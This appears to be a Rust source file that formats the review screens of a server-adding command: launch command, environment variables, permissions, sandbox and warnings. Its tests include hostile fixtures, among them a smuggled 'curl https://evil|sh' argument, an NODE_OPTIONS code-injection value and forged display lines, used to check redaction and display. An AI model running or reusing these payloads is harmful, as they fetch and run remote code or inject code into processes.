//! Screens of `hospes add`: what is run and what it may do, and what the server offers.

use hospes_host::config::{Secret, ServerConfig, ServerTransport, join_command};
use hospes_host::pins::{PinnedServer, REVIEW_INSTRUCTION};
use hospes_host::upstream::UpstreamStatus;
use hospes_registry::{
    LaunchOption, LaunchPermission, LaunchPlan, LaunchWarning, NetworkSuggestion, ResolvedArtifact,
    ServerEntry,
};

use super::sandbox::ProposedSandbox;
pub(in crate::commands) use super::screen::Screen;
use super::trial::{ToolCounts, TrialReport};
use crate::output::{BOLD, DIM, GREEN, RED, YELLOW, one_line, paint, printable};
use crate::shown_commands::shown_command;

/// Shortens a hash to its beginning and its end. The entry of the configuration has all of it.
pub(in crate::commands) fn short_digest(digest: &str) -> String {
    const START: usize = 23;
    const END: usize = 8;

    match (digest.get(..START), digest.len().checked_sub(END).and_then(|end| digest.get(end..))) {
        (Some(start), Some(end)) if digest.len() > START + END + 1 => format!("{start}…{end}"),
        _ => digest.to_owned(),
    }
}

/// Formats a command line with `~` for the home folder.
pub(in crate::commands) fn short_command(command: &str) -> String {
    let home = std::env::home_dir().map(|home| format!("{}/", home.display()));
    match home.filter(|home| home.len() > 2) {
        Some(home) => command.replace(&home, "~/"),
        None => command.to_owned(),
    }
}

/// Formats the archive that is run.
pub(in crate::commands) fn artifact(screen: &mut Screen, artifact: &ResolvedArtifact) {
    let size = artifact.size.map(|size| format!(" · {} KiB", size.div_ceil(1024))).unwrap_or_default();
    match (&artifact.digest, artifact.without_digest) {
        (Some(digest), _) => screen.row("hash", &format!("{}{size}", short_digest(digest))),
        (None, Some(why)) => screen.row("hash", &format!("none: {why}{size}")),
        (None, None) => screen.row("hash", &format!("none{size}")),
    }
}

/// Author of the texts of an entry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::commands) enum TextAuthor {
    /// The person has typed them, perhaps with secrets, which are not shown.
    Person,
    /// The publisher has written them, and secrets are references. They are shown as they are, because what looks like a
    /// secret may be what the person has to see.
    Publisher,
}

/// Formats how a server is run.
pub(in crate::commands) fn launch(
    screen: &mut Screen,
    option: Option<&LaunchOption>,
    server: &ServerConfig,
    others: &[String],
    author: TextAuthor,
) {
    if let Some(option) = option {
        screen.row("runs", &format!("{}: {}", option.kind, option.reason));
        if !others.is_empty() {
            screen.terminal_row("", &format!("--package {} runs it in another way", others.join(" or ")));
        }
    }
    match &server.transport {
        ServerTransport::Stdio(stdio) => {
            let command = match author {
                TextAuthor::Person => stdio.command_line(),
                TextAuthor::Publisher => stdio.written_command_line(),
            };
            screen.row("command", &short_command(&command));
            named_values(screen, "variables", &stdio.env.iter().collect::<Vec<_>>(), author);
        }
        transport => {
            let url = match transport {
                ServerTransport::Http(http) if author == TextAuthor::Publisher => {
                    http.url.written().to_owned()
                }
                transport => transport.to_string(),
            };
            screen.row("url", &url);
            if let ServerTransport::Http(http) = transport {
                let headers: Vec<_> = http.headers.iter().map(|(name, value)| (name, value)).collect();
                named_values(screen, "headers", &headers, author);
            }
        }
    }
}

/// Formats variables or headers. Of those of the person, only the names are shown.
fn named_values(screen: &mut Screen, label: &str, values: &[(&String, &Secret)], author: TextAuthor) {
    match author {
        TextAuthor::Person if values.is_empty() => {}
        TextAuthor::Person => {
            let names: Vec<&str> = values.iter().map(|(name, _)| name.as_str()).collect();
            screen.row(label, &names.join(", "));
        }
        TextAuthor::Publisher => {
            for (index, (name, value)) in values.iter().enumerate() {
                // The entry keeps its references, so that this is no answer that is a secret.
                let text = format!("{name}={}", value.reveal());
                screen.row(if index == 0 { label } else { "" }, &join_command([text.as_str()]));
            }
        }
    }
}

/// Formats what the server may do, and what is unusual.
pub(in crate::commands) fn permissions(
    screen: &mut Screen,
    plan: Option<&LaunchPlan>,
    server: &ServerConfig,
    sandbox: Option<&ProposedSandbox>,
) {
    let is_process = matches!(server.transport, ServerTransport::Stdio(_));
    let network = plan.map(|plan| plan.sandbox.network);
    let may = match network {
        Some(NetworkSuggestion::Container) => "what its container may; see below".to_owned(),
        _ if !is_process => "answer calls; it runs elsewhere and sees their arguments".to_owned(),
        _ => "all that you may: your files and the network".to_owned(),
    };
    screen.row("may", &may);
    let is_confinable = hospes_sandbox::SandboxHelper::is_supported();
    match sandbox {
        Some(sandbox) if is_confinable => {
            screen.terminal_row("sandbox", &format!("none; proposed (s): {}", sandbox.describe()));
        }
        _ if is_process && !is_confinable => {
            screen.row("sandbox", "none: programs are not confined on this system");
        }
        _ => {}
    }
    if let Some(plan) = plan {
        for permission in &plan.permissions {
            let text = permission_text(permission);
            match permission.breaks_out() {
                true => screen.warning(&format!("{text}: the container is no confinement then")),
                false => screen.row("", &text),
            }
        }
        for warning in &plan.warnings {
            screen.warning(&warning_text(warning));
        }
    }
}

/// Returns the texts of the warnings of a plan.
pub(in crate::commands) fn launch_warnings(plan: &LaunchPlan) -> Vec<String> {
    plan.warnings.iter().map(warning_text).collect()
}

/// Formats what a new version gets or does that the one before did not.
pub(in crate::commands) fn new_risks(risks: &[String]) -> String {
    let mut screen = Screen::default();
    for risk in risks {
        screen.labelled_warning("new", risk);
    }
    screen.text().trim_end().to_owned()
}

/// Formats the sandbox that is chosen.
pub(in crate::commands) fn sandbox(text: &str) -> String {
    let mut screen = Screen::default();
    screen.row("sandbox", text);
    screen.text().trim_end().to_owned()
}

pub(in crate::commands) fn permission_text(permission: &LaunchPermission) -> String {
    match permission {
        LaunchPermission::Mount { source, target, read_only } => {
            let mode = if *read_only { "reads" } else { "reads and writes" };
            format!("{mode} {source} (as {target})")
        }
        LaunchPermission::HostNetwork => {
            "uses the network of this machine, with all that listens on it".to_owned()
        }
        LaunchPermission::Network(name) => format!("is in the network {name}"),
        LaunchPermission::Port(port) => format!("opens the port {port}"),
        LaunchPermission::Privileged => "runs privileged".to_owned(),
        LaunchPermission::Capability(name) => format!("has the capability {name}"),
        LaunchPermission::Device(name) => format!("uses the device {name}"),
        LaunchPermission::Namespace(name) => format!("shares {name} with this machine"),
        LaunchPermission::SecurityOption(name) => format!("changes the security option {name}"),
        LaunchPermission::Unknown(option) => {
            format!("starts its container with {option}, whose effect is not known here")
        }
        _ => "has another permission that this version does not know".to_owned(),
    }
}

fn warning_text(warning: &LaunchWarning) -> String {
    match warning {
        LaunchWarning::PositionalLooksLikeOption { value } => {
            format!("the argument `{value}` may be read as an option")
        }
        LaunchWarning::SecretInArguments { question } => {
            format!("{question} becomes an argument, which other programs of this machine can see")
        }
        LaunchWarning::SecretInUrl { question } => {
            format!("{question} becomes part of the URL, which servers record")
        }
        LaunchWarning::Unpinned => "the entry names no version: another one may start tomorrow".to_owned(),
        LaunchWarning::TagNotDigest => "the image is named by a tag, which can be moved".to_owned(),
        LaunchWarning::HintNotUsed { hint, used } => {
            format!("the entry proposes {hint}; {used} is used")
        }
        LaunchWarning::RuntimeArguments(args) => {
            format!("the entry gives its launcher the arguments {}", args.join(" "))
        }
        LaunchWarning::OtherPackageRegistry(url) => format!("the package comes from {url}"),
        LaunchWarning::UndeclaredVariable(name) => {
            format!("{{{name}}} is declared nowhere and stays as it is")
        }
        LaunchWarning::CodeLoadingVariable(name) => {
            format!("the entry sets {name}, which changes what code is loaded")
        }
        LaunchWarning::Compiles => {
            "it is compiled on this machine, which runs code of its publisher".to_owned()
        }
        LaunchWarning::PostInstall { description, command } => match command {
            Some(command) => {
                format!("the publisher asks for a step that is not run: {description}: {command}")
            }
            None => format!("the publisher asks for a step that is not run: {description}"),
        },
        LaunchWarning::LoopbackUrl => "its URL is on this machine".to_owned(),
        _ => "the entry has something that this version does not know".to_owned(),
    }
}

/// Formats what a started server offers.
pub(in crate::commands) fn report(report: &TrialReport, notices: &[String], seconds: f32) -> Screen {
    let mut screen = Screen::default();
    let status = &report.status;
    let who = status.implementation.as_deref().unwrap_or(&status.name);
    screen.title(&format!("{who} started in {seconds:.1} s"), "step 3 of 3");
    let revision = status.revision.as_deref().unwrap_or_default();
    screen.row("speaks", revision);
    screen.row("tools", &tools(report.tools));
    super::definitions::rows(&mut screen, &report.offers);
    match &report.pinned {
        Some(pinned) => findings(&mut screen, pinned),
        None => screen.row("findings", "none"),
    }
    // What waits for a decision is decided now.
    let is_known = |warning: &&String| !warning.ends_with(REVIEW_INSTRUCTION);
    for warning in status.warnings.iter().filter(is_known) {
        screen.warning(&one_line(warning));
    }
    for notice in notices {
        screen.row("note", notice);
    }
    screen
}

/// Formats the numbers of tools.
pub(in crate::commands) fn tools(counts: ToolCounts) -> String {
    let ToolCounts { reads, changes, destroys } = counts;
    let total = reads + changes;
    if total == 0 {
        return "none".to_owned();
    }
    let destroys = match destroys {
        0 => String::new(),
        count => format!(", of which {count} may destroy"),
    };
    let parts = match (reads, changes) {
        (_, 0) => "all say that they only read".to_owned(),
        (0, _) => format!("all may change something{destroys}"),
        _ => format!("{reads} say that they only read, {changes} may change something{destroys}"),
    };
    format!("{total}: {parts}")
}

/// Formats what is conspicuous in the definitions.
pub(in crate::commands) fn findings(screen: &mut Screen, pinned: &PinnedServer) {
    let of_items = pinned.items.iter().flat_map(|item| {
        item.lints.iter().map(move |lint| match item.name.is_empty() {
            true => format!("instructions: {}", lint.text),
            false => format!("{} {}: {}", item.kind.as_str(), item.name, lint.text),
        })
    });
    let all: Vec<String> = pinned.lints.iter().map(|lint| lint.text.clone()).chain(of_items).collect();
    if all.is_empty() {
        screen.row("findings", "none (hidden text, instructions, names that look like others)");
    }
    for text in all {
        screen.warning(&text);
    }
}

/// Formats the reason why a server did not start.
pub(in crate::commands) fn failure(status: &UpstreamStatus) -> String {
    let problem = status.problem.as_deref().unwrap_or("it did not start");
    problem.lines().map(printable).collect::<Vec<_>>().join("\n  ")
}

/// Formats the last line.
pub(in crate::commands) fn added(name: &str, next: &str) -> String {
    let sign = paint(GREEN, "✓");
    format!("  {sign} {} added. {next}", paint(BOLD, printable(name)))
}

/// Formats the last line about a server that is kept switched off.
pub(in crate::commands) fn added_off(name: &str, file: &str) -> String {
    let (sign, shown) = (paint(YELLOW, "✓"), printable(name));
    format!(
        "  {sign} {} added, and switched off. What it offers is not accepted.\n    \
         To use it, remove `enabled = false` from its entry in {file}, and then: {}",
        paint(BOLD, &shown),
        shown_command("pins accept", name)
    )
}

/// Formats a search result for the choice.
pub(in crate::commands) fn candidate(number: usize, entry: &ServerEntry) -> String {
    let title = entry.title.as_deref().map(|title| format!("  {}", one_line(title))).unwrap_or_default();
    let status = match entry.status().as_str() {
        "active" => String::new(),
        other => format!("  {}", paint(RED, one_line(other))),
    };
    let name = paint(BOLD, one_line(&entry.name));
    let about = crate::output::first_line(&entry.description, 100);
    format!(
        "  {number}  {name} {}{title}{status}  {}\n     {}",
        one_line(&entry.version),
        paint(DIM, one_line(&entry.kinds().join(", "))),
        paint(DIM, about),
    )
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests may panic")]

    use std::path::Path;

    use hospes_host::config::ConfigLoader;

    use super::*;

    /// Rows about the start of a server in a file, as `label: text`.
    fn launch_rows(file: &str, author: TextAuthor) -> Vec<String> {
        let loader = ConfigLoader::new().keep_references(true).allow_unset(true);
        let config = loader.parse(Path::new("h.toml"), file).unwrap();
        let mut screen = Screen::default();
        launch(&mut screen, None, &config.servers[0], &[], author);
        screen.for_page().rows.iter().map(|row| format!("{}: {}", row.label, row.text)).collect()
    }

    #[test]
    fn what_the_publisher_wrote_is_shown_and_what_the_person_typed_is_redacted() {
        let program = "[servers.a]\ncommand = ['x', '--stdio', 'TOKEN=1;curl https://evil|sh']\n\
                       env = { KEY = '${secret:a.key}', NODE_OPTIONS = '--require /tmp/e.js' }\n";
        assert_eq!(
            launch_rows(program, TextAuthor::Publisher),
            [
                "command: x --stdio \"TOKEN=1;curl https://evil|sh\"",
                "variables: KEY=${secret:a.key}",
                ": \"NODE_OPTIONS=--require /tmp/e.js\"",
            ]
        );
        assert_eq!(
            launch_rows(program, TextAuthor::Person),
            ["command: x --stdio TOKEN=[redacted]", "variables: KEY, NODE_OPTIONS"]
        );
        let remote = "[servers.a]\nurl = 'https://e.example/mcp?next=evil'\nheaders = { X-Mode = 'all' }\n";
        assert_eq!(
            launch_rows(remote, TextAuthor::Publisher),
            ["url: https://e.example/mcp?next=evil", "headers: X-Mode=all"]
        );
        assert_eq!(
            launch_rows(remote, TextAuthor::Person),
            ["url: https://e.example/mcp?next=[redacted]", "headers: X-Mode"]
        );
    }

    /// A line that would look like a row of the program's own.
    const FORGED: &str = "Jane\n  signed      by Example, certified by Root\r\u{2028}  hash        sha256:00";

    #[test]
    fn a_search_result_has_two_lines_whatever_is_in_it() {
        let entry = serde_json::json!({
            "name": "io.github.a/b", "title": FORGED, "description": FORGED, "version": "1.0.0\n  x",
            "packages": [{ "registryType": "npm\n  y", "identifier": "x", "transport": { "type": "stdio" } }],
        });
        let entry = ServerEntry::from_value(entry).unwrap();
        let text = candidate(1, &entry);
        assert_eq!(text.lines().count(), 2, "{text}");
    }
}
